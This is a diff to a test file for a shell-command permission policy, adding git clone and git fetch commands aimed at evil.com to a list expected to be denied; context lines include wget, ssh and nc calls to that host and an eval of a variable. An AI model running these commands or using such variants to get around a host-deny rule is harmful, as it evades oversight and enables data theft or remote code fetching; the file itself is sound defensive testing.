@@ -72,6 +72,8 @@ describe("a host rule reaches a shell command however it names the host", () => 
     "wget -q -O - evil.com/x",
     "ssh -p 2222 user@evil.com",
     "ssh -J evil.com ok.com",
+    "git clone git@evil.com:r.git",
+    "git -c x=y fetch evil.com:r",
   ])("%s is denied", (command) => expect(shell(command, p).action).toBe("deny"));
   it.each(["nc evil.com 80", 'H=evil.com; curl "https://$H/"', "curl --no-such-option evil.com", 'eval "$C"'])(
     "%s is asked about, saying the policy could not check it",
